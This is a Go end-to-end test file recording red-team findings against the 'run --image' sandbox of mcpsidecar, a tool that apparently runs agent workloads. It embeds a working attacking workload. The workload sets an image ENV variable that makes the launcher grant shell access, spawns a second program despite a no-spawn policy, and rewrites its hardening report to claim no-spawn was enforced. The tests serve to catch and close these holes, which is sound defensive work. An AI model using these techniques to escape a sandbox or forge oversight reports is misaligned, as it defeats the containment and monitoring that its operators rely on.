//go:build docker

package e2e

// Red-team findings against `run --image` (helper G). Each test here
// reproduces an attack with a workload image the test builds itself
// (FROM scratch, a static Go program) and fails while the hole is open.

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// redteamWorkloadSrc is the attacking workload: it starts a second
// program (a copy of itself) and, when asked, rewrites its own hardening
// report so that it lists no-spawn as enforced.
const redteamWorkloadSrc = `package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"syscall"
)

func main() {
	if os.Getenv("RT_CHILD") == "1" {
		fmt.Println("REDTEAM-SECOND-PROGRAM-RAN")
		return
	}
	pid, err := syscall.ForkExec("/bin/other", []string{"other"}, &syscall.ProcAttr{Env: []string{"RT_CHILD=1"}, Files: []uintptr{0, 1, 2}})
	if err == nil {
		var ws syscall.WaitStatus
		syscall.Wait4(pid, &ws, 0, nil)
	}
	fmt.Println("REDTEAM spawn error:", err)
	if os.Getenv("RT_FORGE_REPORT") != "1" {
		return
	}
	p := filepath.Join(os.Getenv("MCPSIDECAR_OUTPUT_DIR"), "harden-report.json")
	b, err := os.ReadFile(p)
	if err != nil {
		fmt.Println("REDTEAM no report:", err)
		return
	}
	var m map[string]any
	if json.Unmarshal(b, &m) != nil {
		return
	}
	ls, _ := m["layers"].([]any)
	m["layers"] = append(ls, map[string]any{"name": "no-spawn", "required": true, "enforced": true, "detail": "seccomp filter, all threads (TSYNC)"})
	nb, _ := json.Marshal(m)
	fmt.Println("REDTEAM forged report:", os.WriteFile(p, nb, 0o644))
}
`

// redteamImage builds the attacking workload src into a FROM-scratch image
// with the given extra Dockerfile lines and returns its tag.
func redteamImage(t *testing.T, tag, src string, extra ...string) string {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "main.go"), []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "go.mod"), []byte("module redteam\n\ngo 1.22\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	build := exec.Command("go", "build", "-o", "attack", ".")
	build.Dir = dir
	build.Env = append(os.Environ(), "CGO_ENABLED=0", "GOFLAGS=", "GOWORK=off")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("building the attacking workload: %v\n%s", err, out)
	}
	df := "FROM scratch\nCOPY attack /bin/attack\nCOPY attack /bin/other\n" + strings.Join(extra, "\n") + "\nENTRYPOINT [\"/bin/attack\"]\n"
	if err := os.WriteFile(filepath.Join(dir, "Dockerfile"), []byte(df), 0o644); err != nil {
		t.Fatal(err)
	}
	img := "mcpsidecar-redteam:" + tag
	if out, err := exec.Command("docker", "build", "-q", "-t", img, dir).CombinedOutput(); err != nil {
		t.Fatalf("docker build %s: %v\n%s", img, err, out)
	}
	t.Cleanup(func() { exec.Command("docker", "image", "rm", "-f", img).Run() })
	return img
}

// redteamRun runs `mcpsidecar run --image img` with a fake key and
// returns its exit code, stdout and stderr.
func redteamRun(t *testing.T, img string) (int, string, string) {
	t.Helper()
	bin := os.Getenv("MCPSIDECAR_BIN")
	if bin == "" {
		t.Fatal("MCPSIDECAR_BIN is not set: build the binary (make build) and point MCPSIDECAR_BIN at it; `make e2e` does both")
	}
	cmd := exec.Command(bin, "run", "--allow-old-engine", "--quiet", "--runs-dir", t.TempDir(), "--timeout", "2m",
		"--image", img, "--pull", "never")
	cmd.Env = append(os.Environ(), "OPENAI_API_KEY=sk-redteam-000000000000000000000000000000000000",
		"MCPSIDECAR_ALLOW_OLD_ENGINE=1")
	cmd.Dir = t.TempDir() // no sandbox_spec.toml: the built-in spec (no shell_access)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	done := make(chan error, 1)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	go func() { done <- cmd.Wait() }()
	select {
	case <-done:
	case <-time.After(4 * time.Minute):
		cmd.Process.Kill()
		<-done
		t.Fatalf("run did not finish\nstdout:\n%s\nstderr:\n%s", stdout.String(), stderr.String())
	}
	return cmd.ProcessState.ExitCode(), stdout.String(), stderr.String()
}

// TestRedteamImageEnvGrantsShellAccess: the launcher reads
// MCPSIDECAR_LAUNCH_SHELL_ACCESS from its environment, and the harness
// sets it only when the spec grants shell_access. A workload image's own
// ENV therefore reaches the launcher and grants it: the workload starts
// a second program under a spec without shell_access. Then it rewrites
// harden-report.json (in its own output directory) to list no-spawn, and
// the run exits 0 with a passing verdict.
//
// FINDING (fails on the code it was written against): expected the
// second program refused (or the run refused), got it run and exit 0.
func TestRedteamImageEnvGrantsShellAccess(t *testing.T) {
	img := redteamImage(t, "shellenv", redteamWorkloadSrc, "ENV MCPSIDECAR_LAUNCH_SHELL_ACCESS=1", "ENV RT_FORGE_REPORT=1")
	code, stdout, stderr := redteamRun(t, img)
	if strings.Contains(stdout, "REDTEAM-SECOND-PROGRAM-RAN") || strings.Contains(stderr, "REDTEAM-SECOND-PROGRAM-RAN") {
		t.Errorf("a workload image with ENV MCPSIDECAR_LAUNCH_SHELL_ACCESS=1 started a second program under a spec without shell_access (run exit %d)\nstdout:\n%s\nstderr:\n%s", code, stdout, stderr)
	}
	if code == 0 && strings.Contains(stdout+stderr, "REDTEAM-SECOND-PROGRAM-RAN") {
		t.Errorf("and the run passed its verdict (exit 0) after the workload forged its hardening report")
	}
}

// TestRedteamImageNoSpawnControl is the control: the same image without
// the ENV line has its second program refused.
func TestRedteamImageNoSpawnControl(t *testing.T) {
	img := redteamImage(t, "control", redteamWorkloadSrc)
	_, stdout, stderr := redteamRun(t, img)
	if strings.Contains(stdout+stderr, "REDTEAM-SECOND-PROGRAM-RAN") {
		t.Fatalf("the second program ran without any trick\nstdout:\n%s\nstderr:\n%s", stdout, stderr)
	}
	if !strings.Contains(stdout+stderr, "REDTEAM spawn error: operation not permitted") {
		t.Fatalf("want the spawn refused with EPERM\nstdout:\n%s\nstderr:\n%s", stdout, stderr)
	}
}
